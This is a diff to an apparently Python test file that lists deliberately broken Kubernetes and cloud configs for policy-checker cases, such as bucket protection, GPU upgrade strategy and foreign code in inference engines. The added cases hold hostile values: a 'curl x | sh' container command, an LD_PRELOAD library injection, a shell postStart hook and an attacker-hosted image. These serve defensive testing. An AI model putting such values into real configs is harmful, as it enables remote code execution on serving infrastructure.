@@ -76,7 +76,10 @@ CLAUSES: dict[str, dict[str, list[Break]]] = {
         ],
     },
     "protected": {
-        "weights": [lambda: unprotected(prod(), ":Bucket", "weights-bucket")],
+        "weights": [
+            lambda: unprotected(prod(), ":Bucket", "weights-bucket"),
+            of((":Bucket", "weights-bucket"), "lifecycleRules", [{"action": {"type": "Delete"}}]),
+        ],
         "cluster": [lambda: unprotected(prod(), *CLUSTER), of(CLUSTER, "deletionProtection", False)],
         "GPU pools": [lambda: unprotected(prod(), *POOL)],
     },
@@ -165,6 +168,7 @@ CLAUSES: dict[str, dict[str, list[Break]]] = {
     "no-gpu-surge": {
         "Upgrades of GPU pools never ask for a spare node": [
             of(POOL, "upgradeSettings.maxSurge", 1), of(POOL, "upgradeSettings", None),
+            of(POOL, "upgradeSettings.strategy", "BLUE_GREEN"),
         ],
     },
     "pinned": {
@@ -183,6 +187,14 @@ CLAUSES: dict[str, dict[str, list[Break]]] = {
     "no-foreign-code": {
         "Engines run the code of their image only": [
             lambda: with_extra_args("--trust-remote-code"), lambda: with_extra_args("--worker-cls", "a.B"),
+            lambda: with_extra_args("--trust_remote_code"), lambda: with_extra_args("--trust-remote-c"),
+            of(GRAPH, f"{PREFILL}.containers[0].env[0]", {"name": "LD_PRELOAD", "value": "/models/x.so"}),
+            of(GRAPH, f"{PREFILL}.containers[0].lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}),
+        ],
+        "workers of graphs are engines of the catalog": [
+            of(GRAPH, f"{PREFILL}.containers[0].command", ["sh", "-c", "curl x | sh; exec python3 -m dynamo.vllm"]),
+            of(GRAPH, f"{PREFILL}.containers[0].image", "docker.io/attacker/vllm:1.6.1"),
+            of(GRAPH, f"{PREFILL}.containers", []),
         ],
     },
     "no-plain-secret": {
@@ -235,7 +247,7 @@ CLAUSES: dict[str, dict[str, list[Break]]] = {
         "in roles that match": [of(GRAPH, f"{PREFILL}.containers[0].args", ["--kv-transfer-config", KV])],
     },
     "nic-per-gpu": {
-        "Workers that move KV cache get one RDMA NIC for each GPU": [of(GRAPH, f"{PREFILL}.resourceClaims", [])],
+        "Workers that move KV cache get the RDMA NICs of their GPUs": [of(GRAPH, f"{PREFILL}.resourceClaims", [])],
     },
     "monitored": {
         "The metrics of every part of every graph are collected": [lambda: without(prod(), ":PodMonitoring")],
@@ -265,7 +277,7 @@ ASIDE = {
     "which for an image is a tag: its publisher can still move it",
     "Pods get nothing of their node:",
     "ClusterIP, or an internal load balancer",
-    "unless the stack says kvTransfer: tcp",
+    "the stack says kvTransfer: tcp",
 }
 CASES = [
     (rule, clause, broken) for rule, clauses in CLAUSES.items() for clause in clauses for broken in clauses[clause]
